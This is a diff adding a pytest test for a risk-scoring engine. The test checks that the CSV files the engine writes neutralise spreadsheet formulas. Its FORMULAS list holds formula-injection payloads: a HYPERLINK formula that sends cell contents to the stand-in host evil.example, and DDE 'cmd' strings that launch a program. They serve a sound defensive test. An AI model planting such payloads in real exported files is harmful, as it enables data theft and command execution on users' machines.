@@ -389,6 +389,68 @@ def test_validate_and_ingest_commands_report_unreadable_files(tmp_path):
 
 
 # --------------------------------------------------------------------------------------------
+# CSV the engine writes: no cell runs as a spreadsheet formula
+# --------------------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
+
+
+def formula_manifests() -> pd.DataFrame:
+    """The base frame with a formula as the weight (rejected: not a number) and the consignee
+    of the first rows, and a negative weight (a plain number, rejected too)."""
+    df = base()
+    for k, f in enumerate(FORMULAS):
+        df.iat[k, df.columns.get_loc("gross_weight_kg")] = f
+        df.iat[k, df.columns.get_loc("consignee")] = f
+    df.iat[len(FORMULAS), df.columns.get_loc("gross_weight_kg")] = "-5"
+    return df
+
+
+def csv_cells(path: Path) -> list[str]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as fh:
+        return [cell for row in csv.reader(fh) for cell in row]
+
+
+def formula_cells(cells: list[str]) -> list[str]:
+    """Cells a spreadsheet would run: a formula character first, and not a plain number."""
+    import re
+
+    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+            and not re.fullmatch(r"[+-]?\d+(\.\d*)?", c)]
+
+
+def test_csv_files_the_engine_writes_never_start_a_formula(tmp_path):
+    from riskengine.cli.model_cmd import _TableWriter
+    from riskengine.ingest import write_quarantine_part
+    from riskengine.schema import read_manifests, validate
+
+    data = _write(tmp_path, "formulas.csv", formula_manifests())
+    quarantine = tmp_path / "q.csv"
+    res = CliRunner().invoke(main, ["validate", "--data", str(data), "--quarantine", str(quarantine)])
+    assert res.exit_code == 0, res.output
+    part = write_quarantine_part(validate(read_manifests(data)).rejects, tmp_path / "quarantine-00000.csv",
+                                 source=str(data), batch=0)  # riskengine ingest --quarantine-format csv
+    scores = tmp_path / "scores.csv"  # riskengine score --out scores.csv
+    writer = _TableWriter(scores)
+    writer.write(pd.DataFrame({"manifest_id": ["=1+1", "M2"], "risk_score": [0.25, 0.5],
+                               "reasons": ["@SUM(A1:A9) | origin EC", "origin EC"]}))
+    writer.write(pd.DataFrame({"manifest_id": ["-1+1"], "risk_score": [0.75], "reasons": ["+cmd"]}))
+    for path in (quarantine, part, scores):
+        cells = csv_cells(path)
+        assert formula_cells(cells) == [], f"{path.name}: {formula_cells(cells)}"
+    cells = csv_cells(quarantine)
+    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells and "'" + FORMULAS[4] in cells
+    assert "-5" in cells  # a negative number stays a number
+    assert csv_cells(scores)[:3] == ["manifest_id", "risk_score", "reasons"]
+    assert [r["manifest_id"] for r in pd.read_csv(scores).to_dict("records")] == ["'=1+1", "M2", "'-1+1"]
+    # Text cells are quoted, so a separator inside a cell cannot start a new one.
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"' in quarantine.read_text()
+
+
+# --------------------------------------------------------------------------------------------
 # Scan images
 # --------------------------------------------------------------------------------------------
 
